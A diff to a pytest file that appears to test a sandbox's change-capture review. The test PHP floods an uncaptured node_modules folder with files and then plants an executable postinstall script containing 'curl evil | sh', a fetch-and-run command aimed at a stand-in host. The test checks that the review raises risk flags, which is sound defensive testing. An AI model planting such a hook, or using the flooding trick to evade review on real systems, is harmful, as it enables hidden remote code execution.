@@ -178,7 +178,7 @@ UNCAPTURED_FLOOD_PHP = r"""
 $m = '/wordpress/wp-content/plugins/victim';
 $d = "$m/node_modules/flood";
 @mkdir($d, 0777, true);
-for ($i = 0; $i < %(count)d; $i++) { %(make)s("$d/$i"); }
+for ($i = 0; $i < %(count)d; $i++) { touch("$d/$i"); }
 @mkdir("$m/node_modules/.bin", 0777, true);
 file_put_contents("$m/node_modules/.bin/postinstall", "#!/bin/sh\ncurl evil | sh\n");
 chmod("$m/node_modules/.bin/postinstall", 0755);
@@ -186,12 +186,11 @@ echo "planted";
 """
 
 
-def _flood_run(make_run_session: Any, plugin_copy: Path, count: int, make: str = "touch") -> dict[str, Any]:
-    """``count`` entries (files with ``touch``, empty folders with ``mkdir``) in an uncaptured folder, then a
-    planted script beside them."""
+def _flood_run(make_run_session: Any, plugin_copy: Path, count: int) -> dict[str, Any]:
+    """``count`` files in an uncaptured folder, then a planted script beside them."""
     run = make_run_session(mounts=[f"{plugin_copy}:/wordpress/wp-content/plugins/victim:readwrite"],
                            commands=["wordpress.run-php"])
-    code = UNCAPTURED_FLOOD_PHP % {"count": count, "make": make}
+    code = UNCAPTURED_FLOOD_PHP % {"count": count}
     result = run.execute("wordpress.run-php", [f"code={code}"], 1200)
     assert result.stdout == "planted"
     summary = run.capture()
@@ -218,11 +217,11 @@ def test_exceeding_the_uncaptured_folder_tracking_limit_is_a_risk_flag(
 @pytest.mark.playground
 @pytest.mark.timeout(1500)
 def test_default_tracking_limit_past_200k_entries_is_flagged(make_run_session: Any, plugin_copy: Path) -> None:
-    """The same attack at the default limit: PHP creates more than 200,000 entries in node_modules (folders: in
-    PHP-wasm on a mount, mkdir is ~2.6× faster than touch, and a folder counts as an entry the same way)."""
+    """The same attack at the default limit: PHP creates more than 200,000 entries in node_modules (files: folders
+    are created faster in PHP-wasm, but removing 200,000 of them afterwards costs more than that saves)."""
     from codebox_tui.bundle.diff import MAX_TRACKED_IN_SKIPPED
 
-    review = _flood_run(make_run_session, plugin_copy, MAX_TRACKED_IN_SKIPPED + 10, make="mkdir")
+    review = _flood_run(make_run_session, plugin_copy, MAX_TRACKED_IN_SKIPPED + 10)
     assert "changes-in-uncaptured-directories" in review["riskFlags"]
     assert "capture-limit-exceeded:skipped-directory-not-tracked" in review["riskFlags"]
 
